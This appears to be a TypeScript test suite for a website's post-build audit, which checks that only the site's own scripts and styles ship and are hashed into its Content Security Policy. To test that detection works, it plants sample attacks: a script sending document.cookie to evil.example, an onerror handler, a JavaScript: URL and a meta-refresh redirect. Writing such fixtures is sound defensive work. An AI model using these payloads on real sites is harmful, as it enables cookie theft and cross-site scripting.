/**
 * The post-build step trusts only our own code (issue 12 §2): run on small out/ folders, it keeps
 * and hashes the scripts and styles we ship from source, and reports any other, naming the file.
 */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { sha256 } from '../../lib/build/audit'
import { embedChildCode, embedCss } from '../../lib/embed/inline-code'
import { runPostbuild } from '../helpers/out-folder'

const CSS = 'body{color:#111}'
const doc = (
  body: string,
  head = '<link rel="stylesheet" href="/_next/static/chunks/s.css" data-precedence="next"/>',
) => `<!DOCTYPE html><html lang="en"><head>${head}</head><body>${body}</body></html>`
const EMBED = doc(`<p>Embed</p><script>${embedChildCode()}</script>`, `<style>${embedCss()}</style>`)

const run = (files: Record<string, string>) => runPostbuild({ '/_next/static/chunks/s.css': CSS, ...files })

describe('post-build: only our own code', () => {
  it('passes a site page, an embed and the partner page that carry only our code, and hashes it into the right CSP', () => {
    const r = run({
      '/topics/a/index.html': doc(
        '<p>Hi</p><script type="application/ld+json">{"@type":"MedicalWebPage","name":"a \\u003c b"}</script>',
      ),
      '/embed/v1/a/index.html': EMBED,
      '/embed/v1/zh-hans/a/index.html': EMBED,
      '/embed/index.html': doc(
        '<script src="/embed/v1/resize.js" defer=""></script><script src="/embed/partner.js" defer=""></script><script type="application/json" id="embed-data">{"a":1}</script>',
      ),
    })
    try {
      assert.deepEqual(r.report.problems, [])
      const child = `'${sha256(embedChildCode())}'`
      const site = r.headers('/topics/a/').get('content-security-policy') ?? ''
      assert.ok(site.includes(`'${sha256(CSS)}'`) && !site.includes(child), site)
      for (const embed of ['/embed/v1/a/', '/embed/v1/zh-hans/a/']) {
        const csp = r.headers(embed).get('content-security-policy') ?? ''
        assert.ok(
          csp.includes(`script-src ${child}`) &&
            csp.includes(`style-src '${sha256(embedCss())}'`) &&
            !csp.includes(sha256(CSS)),
          `${embed}: ${csp}`,
        )
      }
      // JSON data blocks are kept but never hashed: they are not code.
      assert.equal(r.report.hashes.siteScripts.length, 0)
      assert.ok(r.read('/topics/a/index.html').includes(`<style>${CSS}</style>`))
    } finally {
      r.cleanup()
    }
  })

  it('fails on an inline script from content, naming the file and the script, and never hashes it', () => {
    const evil = `fetch('https://evil.example/?c='+document.cookie)`
    const r = run({
      '/topics/meth-basics/index.html': doc(`<p>Cited sentence.</p><script data-keep="1">${evil}</script>`),
    })
    try {
      const problems = r.report.problems.join('\n').replaceAll('meth-basics', 'a')
      assert.ok(r.report.foreignCode)
      // The writer is sent to the content file the page is built from.
      assert.match(problems, /\(page built from content\/pages\/en\/a\.mdx\)$/m)
      assert.match(
        problems,
        /^out\/topics\/a\/index\.html: an unknown inline script <script> at line 1: "fetch\('https:\/\/evil\.example/m,
      )
      assert.match(problems, /^out\/topics\/a\/index\.html: a data-keep attribute on <script>/m)
      assert.ok(!JSON.stringify(r.report.hashes).includes(sha256(evil)))
      assert.ok(!r.read('/_headers').includes(sha256(evil)))
    } finally {
      r.cleanup()
    }
  })

  it('fails on other code: styles, script files, our embed script on a site page, event handlers, javascript: URLs, meta refresh', () => {
    const r = run({
      '/about/index.html': doc(
        '<STYLE>p{color:red}</STYLE><script src="https://cdn.example/x.js"></script><script src="/embed/partner.js"></script>',
      ),
      '/topics/a/index.html': doc(
        `<script>${embedChildCode()}</script><img src="/i.svg" alt="" onerror="alert(1)"><a href="JavaScript:alert(1)">x</a>`,
      ),
      '/topics/b/index.html': doc(
        '<p>b</p>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
      ),
    })
    try {
      const problems = r.report.problems.join('\n')
      for (const expected of [
        /out\/about\/index\.html: an unknown inline style <style> at line 1: "p\{color:red\}"/,
        /out\/about\/index\.html: an external script <script> at line 1 \(src="https:\/\/cdn\.example\/x\.js"\)/,
        /out\/about\/index\.html: an external script .*"\/embed\/partner\.js"\) that is not one of ours for a site-page page/,
        /out\/topics\/a\/index\.html: an unknown inline script <script> at line 1: "var CONFIG=/,
        /out\/topics\/a\/index\.html: an event-handler attribute onerror="…" on <img>/,
        /out\/topics\/a\/index\.html: a javascript: URL in href of <a>/,
        /out\/topics\/b\/index\.html: <meta http-equiv="refresh">/,
        /out\/topics\/b\/index\.html: a stylesheet link <link> at line 1 \(href="https:\/\/evil\.example\/x\.css"\)/,
      ])
        assert.match(problems, expected)
      assert.equal(r.report.hashes.siteScripts.length, 0)
    } finally {
      r.cleanup()
    }
  })

  it('keeps JSON data blocks only if they are JSON our components could have written', () => {
    const r = run({
      '/topics/a/index.html': doc(
        '<script type="application/ld+json">{not json}</script><script type="application/json" id="x" onload="y()">{}</script><script type="application/ld+json">{"a":"</p><p>"}</script>',
      ),
    })
    try {
      const problems = r.report.problems.join('\n')
      assert.match(problems, /a JSON data block <script> at line 1 that is not JSON: "\{not json\}"/)
      assert.match(problems, /a JSON data block <script> at line 1 with attribute\(s\) onload/)
      assert.match(problems, /a JSON data block <script> at line 1 containing "<"/)
    } finally {
      r.cleanup()
    }
  })

  it('fails on a file no route kind covers, which would ship without headers', () => {
    const r = run({ '/topics/a/b/c.txt': 'x', '/topics/a/index.html': doc('<p>a</p>') })
    try {
      assert.equal(r.report.foreignCode, false)
      assert.deepEqual(r.report.problems, [
        'out/topics/a/b/c.txt: no route kind in lib/routes.ts matches this file, so it would get no headers; add its route there',
      ])
    } finally {
      r.cleanup()
    }
  })
})
